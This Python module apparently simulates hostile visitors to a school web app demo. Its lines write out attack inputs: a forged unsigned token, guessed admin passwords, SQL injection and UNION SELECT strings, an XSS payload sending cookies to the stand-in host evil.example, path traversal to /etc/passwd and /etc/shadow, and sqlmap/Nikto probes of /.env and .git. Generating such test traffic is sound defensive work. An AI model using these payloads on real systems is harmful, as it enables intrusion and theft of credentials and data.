"""Strangers, who have no business here."""

from edupro.demo.browser import get, send_form
from edupro.demo.visits.visiting import Visit, Visitor, login


def knock(who: Visitor) -> Visit:
    """401: without a token, and with one of the visitor's own making."""
    yield get("/api/nilai")
    yield get("/api/siswa", headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyX2lkIjoxfQ.forged"})


def guess_passwords(who: Visitor) -> Visit:
    for username in ("admin", "guru", "root", "administrator"):
        yield login(username, who.random.choice(["123456", "admin123", "password", "sekolah2024", "qwerty"]))
    yield get("/admin/login/")
    yield send_form("/admin/login/", {"username": "admin", "password": "rahasia"})


def inject(who: Visitor) -> Visit:
    yield login("admin' OR '1'='1' --", "x")
    yield get("/api/siswa", search="' UNION SELECT username, password FROM auth_user --")
    yield get("/", q="<script>document.location='http://evil.example/?c='+document.cookie</script>")
    yield login("<img src=x onerror=alert(1)>", "x")


def climb(who: Visitor) -> Visit:
    yield get("/media/../../../../etc/passwd")
    yield get("/media/..%2f..%2f..%2fetc%2fpasswd")
    yield get("/api/siswa", search="../../../../etc/shadow")


def scan(who: Visitor) -> Visit:
    tool = {"User-Agent": who.random.choice(["sqlmap/1.8.4#stable (https://sqlmap.org)", "Nikto/2.5.0"])}
    for path in who.random.sample(["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.sql"], 3):
        yield get(path, headers=tool)
